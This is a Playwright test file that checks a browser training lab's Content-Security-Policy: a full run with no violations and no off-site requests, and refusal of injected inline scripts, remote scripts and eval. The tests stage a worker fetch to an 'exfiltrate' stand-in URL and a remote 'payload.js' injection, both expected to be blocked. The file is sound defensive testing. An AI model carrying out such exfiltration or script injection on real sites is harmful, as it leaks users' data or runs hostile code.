// The app itself (issue 7): its Content-Security-Policy lets a whole run happen (workers,
// WASM, charts) without a single violation, blocks injected inline and remote scripts and eval,
// holds inside the training worker too; and no request leaves localhost while the lab runs.
import { expect, type Page, type Request, test } from "@playwright/test";
import { expectStatus } from "./helpers";

const TINY = "/?preset=tiny-vit-synthetic&backend=wasm&epochs=1&trainSize=256&testSize=128";

interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    __injected?: string;
  }
}

/**
 * Every violation, in the page or in its workers, as the browser reports it to the preview's
 * report-uri (vite.config.ts): a worker's own events cannot be listened to from its start.
 */
function recordViolations(page: Page): Violation[] {
  const violations: Violation[] = [];
  page.context().on("request", (request: Request) => {
    if (!request.url().endsWith("/csp-violations")) return;
    const report = request.postDataJSON()["csp-report"];
    violations.push({ directive: report["effective-directive"], blocked: report["blocked-uri"] });
  });
  return violations;
}

test("a whole run under the CSP: no violation, nothing but localhost asked for", async ({
  page,
  baseURL,
}) => {
  const violations = recordViolations(page);
  const requests: string[] = [];
  page.context().on("request", (request) => requests.push(request.url()));

  const response = await page.goto(TINY);
  expect(response?.headers()["content-security-policy"]).toContain("script-src 'self' 'wasm-unsafe-eval'");
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute("content", /script-src 'self' 'wasm-unsafe-eval'/);

  const trainingWorker = page.waitForEvent("worker", (worker) => worker.url().includes("training.worker"));
  await page.getByTestId("run-button").click();
  // Inside the worker a fetch to another origin is refused by the policy of the worker's own
  // response, not merely left unanswered.
  const refused = await (await trainingWorker).evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      self.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective)),
    );
    await fetch("https://example.com/exfiltrate").catch(() => undefined);
    return violation;
  });
  expect(refused).toBe("connect-src");
  await expect(page.getByTestId("backend-badge")).toHaveText("wasm");
  await expectStatus(page, "done", 90_000);
  // That refusal is the only violation of the whole run.
  await expect
    .poll(() => violations)
    .toEqual([{ directive: "connect-src", blocked: "https://example.com/exfiltrate" }]);

  // Everything asked for: the page, its scripts, the workers' scripts, the WASM binaries.
  const origin = new URL(baseURL ?? "").origin;
  const offsite = requests.filter((url) => new URL(url).origin !== origin && !/^(data|blob):/.test(url));
  expect(offsite).toEqual([]);
  expect(requests.some((url) => url.includes("training.worker"))).toBe(true);
  expect(requests.some((url) => url.endsWith(".wasm"))).toBe(true);
});

test("injected inline and remote scripts and eval are blocked", async ({ page }) => {
  const violations = recordViolations(page);
  await page.goto(TINY);
  await expect(page.getByTestId("status")).toHaveText("idle");

  const outcome = await page.evaluate(async () => {
    const inline = document.createElement("script");
    inline.textContent = "window.__injected = 'inline ran'";
    document.head.append(inline);

    const remote = document.createElement("script");
    remote.src = "https://cdn.example.com/payload.js";
    const remoteOutcome = new Promise<string>((resolve) => {
      remote.onload = () => resolve("loaded");
      remote.onerror = () => resolve("refused");
    });
    document.head.append(remote);

    // In a task of its own: code run by the test driver itself is exempt from the policy.
    const evalOutcome = await new Promise<string>((resolve) =>
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: the policy must refuse exactly this
          resolve(String(window.eval("'eval ran'")));
        } catch (error) {
          resolve(error instanceof Error ? error.name : String(error));
        }
      }, 0),
    );
    return { inline: window.__injected ?? "blocked", remote: await remoteOutcome, eval: evalOutcome };
  });
  expect(outcome).toEqual({ inline: "blocked", remote: "refused", eval: "EvalError" });

  await expect.poll(() => violations).toHaveLength(3);
  expect(violations).toContainEqual({ directive: "script-src-elem", blocked: "inline" });
  expect(violations).toContainEqual({
    directive: "script-src-elem",
    blocked: "https://cdn.example.com/payload.js",
  });
  expect(violations).toContainEqual({ directive: "script-src", blocked: "eval" });
});
